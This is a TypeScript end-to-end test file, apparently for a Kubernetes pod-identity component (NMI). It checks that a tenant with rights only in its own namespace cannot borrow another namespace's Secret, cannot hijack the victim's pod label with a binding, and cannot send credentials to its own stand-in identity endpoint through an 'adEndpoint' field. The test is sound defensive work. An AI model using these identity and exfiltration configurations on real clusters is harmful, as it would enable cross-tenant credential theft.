// Tenants of one cluster, end to end: a tenant who may write the custom
// resources in its own namespace (the normal workflow) tries to reach what is
// another namespace's, through the real rules, with the API server, kubelet and
// two Entra IDs as stand-ins (the cloud's, and one the tenant runs). Each attack
// worked on nmi before namespaces were walls; the last test shows the operator's
// flags that bring NMI's reach back do so, and only when given.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { crd, TOKEN_URL, type ClusterPod } from '../harness/cluster.js';
import { createFederatedNode, TENANT, type FederatedNode } from '../harness/federation.js';
import type { PodAgent } from '../harness/netns.js';
import type { NmiProcess } from '../harness/nmi-process.js';
import type { KubeObject } from '../standins/apiserver.js';
import { startEntra, type EntraStandin } from '../standins/entra.js';
import { decodeStandinToken } from '../standins/imds.js';

const VAULT = 'https://vault.azure.net';
const query = `${TOKEN_URL}?api-version=2018-02-01&resource=${encodeURIComponent(VAULT)}`;
const META = { Metadata: 'true' };
const payments = { tenantId: TENANT, clientId: 'aaaaaaaa-0000-0000-0000-0000000000a1', clientSecret: 'payments-secret-value' };
const tenantApp = { tenantId: TENANT, clientId: 'aaaaaaaa-0000-0000-0000-0000000000b1', clientSecret: 'tenant-secret-value' };
const tenantMsi = 'cccccccc-0000-0000-0000-0000000000c1';

let node: FederatedNode;
let evil: EntraStandin;
let nmi: NmiProcess;
const pods: Record<string, ClusterPod> = {};
const agents: Record<string, PodAgent> = {};

const put = (object: object) => node.api.put(object as KubeObject);
const sp = (name: string, namespace: string, clientId: string, secret: { name: string; namespace: string }, extra: Record<string, unknown> = {}) => ({
  apiVersion: 'aadpodidentity.k8s.io/v1',
  kind: 'AzureIdentity',
  metadata: { name, namespace },
  spec: { type: 1, tenantID: TENANT, clientID: clientId, clientPassword: secret, ...extra },
});

before(async () => {
  node = await createFederatedNode();
  evil = await startEntra({ pki: node.cluster.pki });
  node.entra.register(payments);
  node.entra.register(tenantApp);
  evil.register(tenantApp);
  // The payments team's own service principal and its Secret.
  put(sp('payments-sp', 'payments', payments.clientId, { name: 'victim-secret', namespace: 'payments' }));
  put(crd.secret('victim-secret', { clientSecret: payments.clientSecret }, 'payments'));
  put(crd.binding('payments-b', 'payments-sp', 'payments-app', 'payments'));
  // The tenant's objects, all in its own namespace.
  put(sp('borrowed', 'tenant', payments.clientId, { name: 'victim-secret', namespace: 'payments' }));
  put(crd.binding('borrowed-b', 'borrowed', 'borrow', 'tenant'));
  put(sp('exfil', 'tenant', tenantApp.clientId, { name: 'tenant-secret', namespace: 'tenant' }, { adEndpoint: `${evil.url}/` }));
  put(crd.secret('tenant-secret', { clientSecret: tenantApp.clientSecret }, 'tenant'));
  put(crd.binding('exfil-b', 'exfil', 'exfil', 'tenant'));
  // A federated identity whose adEndpoint is the tenant's, bound to the victim's label.
  put({ apiVersion: 'aadpodidentity.k8s.io/v1', kind: 'AzureIdentity', metadata: { name: 'mint', namespace: 'tenant' }, spec: { type: 3, tenantID: TENANT, clientID: tenantApp.clientId, adEndpoint: `${evil.url}/` } });
  put(crd.binding('mint-b', 'mint', 'builder', 'tenant'));
  // The tenant's user-assigned identity, bound to the label the victim's web pods carry.
  put(crd.userAssigned('steer', tenantMsi, '', 'tenant'));
  put(crd.binding('steer-b', 'steer', 'web', 'tenant'));

  pods.borrower = node.addPod({ name: 'borrower', namespace: 'tenant', labels: { aadpodidbinding: 'borrow' }, serviceAccount: 'default' });
  pods.exfil = node.addPod({ name: 'exfil', namespace: 'tenant', labels: { aadpodidbinding: 'exfil' }, serviceAccount: 'default' });
  pods.web = node.addPod({ name: 'web', namespace: 'payments', labels: { aadpodidbinding: 'web' }, serviceAccount: 'web' });
  pods.builder = node.addPod({ name: 'builder', namespace: 'payments', labels: { aadpodidbinding: 'builder' }, serviceAccount: 'deployer' });
  pods.payments = node.addPod({ name: 'payments', namespace: 'payments', labels: { aadpodidbinding: 'payments-app' }, serviceAccount: 'default' });
  nmi = await node.startNmi();
  for (const [name, pod] of Object.entries(pods)) agents[name] = await pod.ns.agent();
});

after(async () => {
  await Promise.all(Object.values(agents).map((agent) => agent.close()));
  await evil?.close();
  await node?.close();
});

const body = (text: string) => JSON.parse(text) as Record<string, string>;

test("another namespace's Secret: the tenant's identity naming it is unusable, and nmi never reads it for that identity", async () => {
  const entraCalls = node.entra.calls;
  const r = await agents.borrower!.http(query, { headers: META });
  assert.equal(r.status, 500, r.body);
  assert.match(body(r.body).error_description ?? '', /identity/i);
  assert.equal(node.entra.calls, entraCalls, "Entra ID was asked with the payments team's secret");
  // The payments pod still gets its own token: the Secret is read for the identity of its own namespace.
  const own = await agents.payments!.http(query, { headers: META });
  assert.equal(own.status, 200, own.body);
  assert.equal(decodeStandinToken(body(own.body).access_token!).identity, `sp:${TENANT}/${payments.clientId}`);
  assert.ok(!nmi.output().includes(payments.clientSecret));
});

test("an adEndpoint on the tenant's own host: nothing is sent there, neither a client secret nor a pod's service-account token", async () => {
  const tokenRequests = node.api.requests.filter((r) => r.resource === 'serviceaccounts/token').length;
  const r = await agents.exfil!.http(query, { headers: META });
  assert.equal(r.status, 500, r.body);
  assert.equal(evil.calls, 0, "the tenant's Entra ID received a token request");
  assert.equal(node.api.requests.filter((r) => r.resource === 'serviceaccounts/token').length, tokenRequests);
});

test("a tenant's binding on another namespace's label: the victim's pods never get the tenant's identity, nor have their tokens minted for it", async () => {
  const web = await agents.web!.http(query, { headers: META });
  assert.equal(web.status, 400, web.body);
  assert.equal(body(web.body).error_description, 'Identity not found');
  const tokenRequests = node.api.requests.filter((r) => r.resource === 'serviceaccounts/token').length;
  const builder = await agents.builder!.http(query, { headers: META });
  assert.equal(builder.status, 400, builder.body);
  assert.equal(node.api.requests.filter((r) => r.resource === 'serviceaccounts/token').length, tokenRequests, "a payments pod's service-account token was minted");
  assert.equal(evil.calls, 0);
});

test("the operator's flags bring NMI's reach back, each only what it names", async () => {
  await nmi.stop('SIGTERM');
  const open = await node.startNmi(['--shared-identity-namespaces', 'tenant', '--cross-namespace-secrets', '--aad-endpoint-allow', new URL(evil.url).host]);
  try {
    const web = await agents.web!.http(query, { headers: META });
    assert.equal(web.status, 200, web.body);
    assert.equal(body(web.body).client_id, tenantMsi);
    const borrowed = await agents.borrower!.http(query, { headers: META });
    assert.equal(borrowed.status, 200, borrowed.body);
    const exfil = await agents.exfil!.http(query, { headers: META });
    assert.equal(exfil.status, 200, exfil.body);
    assert.ok(evil.calls > 0);
  } finally {
    await open.stop('SIGTERM');
  }
});
